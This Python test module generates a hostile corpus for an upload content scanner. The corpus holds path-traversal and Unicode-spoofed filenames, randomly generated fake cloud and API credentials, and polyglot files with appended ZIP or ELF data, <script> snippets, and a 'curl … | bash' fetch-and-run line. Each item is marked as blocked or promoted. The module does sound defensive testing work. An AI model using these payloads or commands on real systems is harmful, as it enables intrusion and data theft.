"""The hostile corpus of the content tests, generated here (no fixture files).

Each item is what an attacker who knows the checks would try (or a benign file that
looks close): its name below the task, bytes, Content-Type and user metadata, the
state it must reach on the route's auto gate ("promoted" or "blocked": an auto route
blocks whatever a person would have to look at), and for the others the check, the
verdict ("fail" or "review") and words its finding must carry. `secrets` lists strings that must never
appear in a manifest, the audit log, a log line or an API answer.
"""

from dataclasses import dataclass, field

import base64
import io
import os
import random
import zipfile


def route_checks(root):
    """The route under attack: auto review, text, CSV, JSON, PDF and PNG allowed, the
    default rules (as config/examples/local.json has them)."""
    return {
        "max_bytes": "1MiB",
        "allow_types": ["text/plain", "text/csv", "application/json", "application/pdf", "image/png"],
        "deny_types": ["application/x-executable", "application/x-sharedlib"],
        "rules": [os.path.join(root, "config", "rules", "default.json")],
    }


CSV = b"id,name,value\n" + b"".join(b"%d,row%d,%d\n" % (i, i, i * 7) for i in range(40))


@dataclass
class Item:
    name: str
    data: bytes
    expect: str
    why: str
    check: str = ""
    detail: list = field(default_factory=list)
    content_type: str = "text/csv"
    metadata: dict = field(default_factory=dict)
    secrets: list = field(default_factory=list)
    verdict: str = "fail"


def key_items():
    def bad(name, why, detail):
        return Item(name, CSV, "blocked", why, "key", [detail])

    return [
        bad("report\u202evsc.exe", "right-to-left override: reads reportexe.csv", "U+202E"),
        bad("next\u0085line.csv", "C1 control NEL", "U+0085"),
        bad("csi\u009b31m.csv", "C1 control CSI", "U+009B"),
        bad("zero\u200bwidth.csv", "zero-width space", "U+200B"),
        bad("joiner\u200d.csv", "zero-width joiner", "U+200D"),
        bad("\ufeffbom.csv", "byte order mark", "U+FEFF"),
        bad("isolate\u2066.csv", "left-to-right isolate", "U+2066"),
        bad("mark\u061c.csv", "Arabic letter mark", "U+061C"),
        bad("%2e%2e/x.csv", "percent-encoded dot segment", "percent-encoded"),
        bad("%252e%252e/y.csv", "double percent-encoded dot segment", "percent-encoded"),
        bad("..%2fz.csv", "percent-encoded separator", "percent-encoded"),
        bad("\uff0e\uff0e\uff0fw.csv", "full-width dots and slash", "look-alike"),
        # what held and keeps holding
        bad("sub/../escape.csv", "dot segment", "\"..\" segment"),
        bad("./here.csv", "dot segment", "\".\" or \"..\" segment"),
        bad("double//slash.csv", "empty segment", "empty segment"),
        bad("tab\there.csv", "control character", "control character"),
        # near misses
        Item("caf\u00e9-na\u00efve.csv", CSV, "promoted", "accents"),
        Item("\u65e5\u672c\u8a9e.csv", CSV, "promoted", "CJK name"),
        Item("100%25.csv", CSV, "promoted", "an escape that decodes to %"),
        Item("a..b.csv", CSV, "promoted", "dots inside a name"),
    ]


def metadata_items():
    return [
        Item("meta64.csv", CSV, "blocked", "64 pairs totalling 2.5 KiB", "metadata", ["64 pairs"],
             metadata={f"k{i:02d}": "v" * 37 for i in range(64)}),
        Item("meta33.csv", CSV, "blocked", "32 one-byte pairs and a 4 KiB 33rd", "metadata", ["33 pairs"],
             metadata={**{f"a{i:02d}": "v" for i in range(32)}, "zz": "w" * 4096}),
        Item("meta-small.csv", CSV, "promoted", "a few small pairs",
             metadata={f"k{i}": "value" for i in range(10)}),
    ]


# ---- secrets: assembled here from pieces, random where they can be ----

RNG = random.Random(13)


def rand(alphabet, n):
    return "".join(RNG.choice(alphabet) for _ in range(n))


ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
B64 = ALNUM + "+/"
HEX = "0123456789abcdef"


def secret_items(buckets):
    def bad(name, text, rule, secret, verdict="fail", ctype="text/plain"):
        return Item(name, text.encode(), "blocked", f"{rule} rule", "rules", [rule + " at offset"],
                    content_type=ctype, secrets=[secret], verdict=verdict)

    key_id = "AKIA" + rand("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16)
    secret40 = rand(B64, 40)
    ghp = "ghp_" + rand(ALNUM, 36)
    sig = rand(HEX, 64)
    sts = "IQoJb3JpZ2luX2Vj" + rand(B64, 300)
    pem_body = rand(B64, 64)
    ssh_body = "b3BlbnNzaC1rZXktdjE" + rand(B64, 60)
    glpat = "glpat-" + rand(ALNUM, 20)
    slack = "xoxb-" + rand("0123456789", 12) + "-" + rand("0123456789", 13) + "-" + rand(ALNUM, 24)
    stripe = "sk_live_" + rand(ALNUM, 24)
    google = "AIza" + rand(ALNUM, 35)
    jwt_sig = rand(ALNUM + "_-", 43)
    sas = rand(B64, 44)
    v2sig = rand(ALNUM, 27)
    password = rand(ALNUM + "!@#", 20)
    # a secret straddling the usual GET chunk boundaries (16 KiB multiples)
    filler = "".join(f"{i},{i * 3},{i % 7}\n" for i in range(20000))
    split = filler[:65530] + " " + ghp + " " + filler[65530:131060]
    return [
        bad("aws_keys.csv", f"user,key_id,secret\nbob,{key_id},{secret40}\n", "aws-access-key-pair", secret40,
            ctype="text/csv"),
        bad("id_rsa.txt", f"-----BEGIN OPENSSH PRIVATE KEY-----\n{ssh_body}\n-----END OPENSSH PRIVATE KEY-----\n",
            "openssh-private-key", ssh_body),
        bad("server.txt", f"-----BEGIN RSA PRIVATE KEY-----\n{pem_body}\n-----END RSA PRIVATE KEY-----\n",
            "pem-private-key", pem_body),
        bad("config.json", '{"deploy": {"token": "%s"}}\n' % ghp, "github-token", ghp, ctype="application/json"),
        bad("upload-url.txt", "PUT here: https://s3.example.com/b/k?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Credential="
            f"{key_id}%2F20240101%2Fus-east-1%2Fs3%2Faws4_request&X-Amz-Date=20240101T000000Z&X-Amz-Expires=900"
            f"&X-Amz-SignedHeaders=host&X-Amz-Signature={sig}\n", "s3-presigned-url-sigv4", sig),
        bad("old-url.txt", f"https://b.s3.example.com/k?AWSAccessKeyId={key_id}&Expires=1700000000&Signature={v2sig}\n",
            "s3-presigned-url-sigv2", v2sig),
        bad("session.txt", f"aws_session_token={sts}\n", "aws-session-token", sts),
        bad("notes.csv", f"step,where\n1,s3://{buckets[0]}/reports/next.csv\n", "own-bucket-reference",
            "s3://" + buckets[0] + "/reports/next.csv", ctype="text/csv"),
        bad("ci.txt", f"GITLAB_TOKEN={glpat}\n", "gitlab-token", glpat),
        bad("bot.txt", f"SLACK={slack}\n", "slack-token", slack),
        bad("pay.json", '{"stripe": "%s"}\n' % stripe, "stripe-key", stripe, ctype="application/json"),
        bad("maps.txt", f"key={google}\n", "google-api-key", google),
        bad("auth.txt", f"Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJib2IifQ.{jwt_sig}\n", "jwt", jwt_sig),
        bad("blob.txt", f"https://a.blob.example.net/c?sv=2021-08-06&ss=b&srt=o&sp=r&se=2030-01-01&sig={sas}\n",
            "azure-sas-token", sas),
        bad("sa.json", '{"type": "service_account", "project_id": "p", "private_key": "-----BEGIN PRIVATE KEY-----\\n'
            + pem_body + '"}\n', "gcp-service-account", pem_body, ctype="application/json"),
        bad("pgp.txt", f"-----BEGIN PGP PRIVATE KEY BLOCK-----\n\n{pem_body}\n", "pgp-private-key", pem_body),
        bad("settings.txt", f"password = {password}\n", "generic-secret-assignment", password, verdict="review"),
        Item("split.csv", split.encode(), "blocked", "a token across GET chunk boundaries", "rules",
             ["github-token at offset 65,531"], content_type="text/csv", secrets=[ghp]),
        # near misses
        Item("aws-docs.txt", b"the documented example id is AKIA" b"IOSFODNN7EXAMPLE\n", "promoted", "allowlisted example"),
        Item("howto.txt", b"append X-Amz-Signature=<signature> to the query\npassword=changeme\n", "promoted",
             "placeholders"),
        Item("other.csv", b"from,to\ns3://someone-elses-bucket/x,s3://another/y\n", "promoted", "other buckets"),
        Item("pub.txt", b"-----BEGIN PUBLIC KEY-----\nMIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA\n", "promoted",
             "a public key"),
        Item("short.json", b'{"prefix": "ghp_", "len": 36}\n', "promoted", "a token prefix alone",
             content_type="application/json"),
    ]


# ---- embedded content ----

PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360000002000154a24f5d0000000049454e44ae426082"
)


def zip_bytes():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("payload.sh", "#!/bin/sh\necho owned\n")
    return out.getvalue()


def csv_bytes(n):
    rows, size = [], 0
    i = 0
    while size < n:
        row = f"{i},{i * 7},{i % 13}\n"
        rows.append(row)
        size += len(row)
        i += 1
    return "".join(rows).encode()[:n]


def embedded_items():
    head = csv_bytes(71680)
    with open("/bin/true", "rb") as f:
        elf = f.read()
    pdf = b"%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    text_chunk = b"tEXt" + b"Comment\x00<script>fetch('/x')</script>"
    png_html = PNG[:33] + len(text_chunk[4:]).to_bytes(4, "big") + text_chunk + b"\0\0\0\0" + PNG[33:]
    return [
        Item("appended-zip.csv", head + zip_bytes(), "blocked", "a ZIP after 70 KiB of CSV", "embedded",
             ["embedded ZIP at offset 71,680"]),
        Item("appended-elf.csv", head + elf[:8192], "blocked", "an ELF after 70 KiB of CSV", "embedded",
             ["embedded ELF executable at offset 71,680"]),
        Item("pixel.png", PNG + zip_bytes(), "blocked", "a ZIP after the PNG's IEND", "embedded",
             ["embedded ZIP at offset 66"], content_type="image/png"),
        Item("trail.png", PNG + b"more bytes after the end", "blocked", "data after IEND", "embedded",
             ["bytes after the PNG end (IEND)"], content_type="image/png", verdict="review"),
        Item("doc.pdf", pdf + b"hidden instructions\n", "blocked", "data after %%EOF", "embedded",
             ["after the PDF end (%%EOF)"], content_type="application/pdf", verdict="review"),
        Item("polyglot.pdf", pdf + zip_bytes(), "blocked", "a PDF/ZIP polyglot", "embedded", ["embedded ZIP"],
             content_type="application/pdf"),
        Item("html.png", png_html, "blocked", "a PNG/HTML polyglot", "embedded", ["HTML <script>"],
             content_type="image/png", verdict="review"),
        Item("cell.csv", b"name,bio\nbob,\"<script>alert(1)</script>\"\n", "blocked", "HTML in a CSV cell",
             "embedded", ["HTML <script>"], verdict="review"),
        Item("steps.txt", b"run this:\n#!/bin/bash\ncurl -s http://example.invalid | bash\n", "blocked",
             "a script inside text", "embedded", ["script (#!)"], verdict="review"),
        # what held and keeps holding
        Item("tool.csv", elf[:60000], "blocked", "an executable named .csv", "type", ["application/x-"]),
        Item("table.csv", zip_bytes(), "blocked", "a ZIP named .csv", "type", ["application/zip"]),
        # near misses
        Item("big.csv", csv_bytes(300000), "promoted", "300 KB of CSV"),
        Item("clean.png", PNG, "promoted", "a plain PNG", content_type="image/png"),
        Item("clean.pdf", pdf, "promoted", "a plain PDF", content_type="application/pdf"),
        Item("words.txt", b"PK and MZ are initials; 7z is a tool; <scripting> is a word; # ! apart\n", "promoted",
             "signature-like words"),
    ]


def build(root, buckets):
    """The whole corpus; `root` is the repository, `buckets` the deployment's buckets."""
    del root
    return key_items() + metadata_items() + secret_items(buckets) + embedded_items()
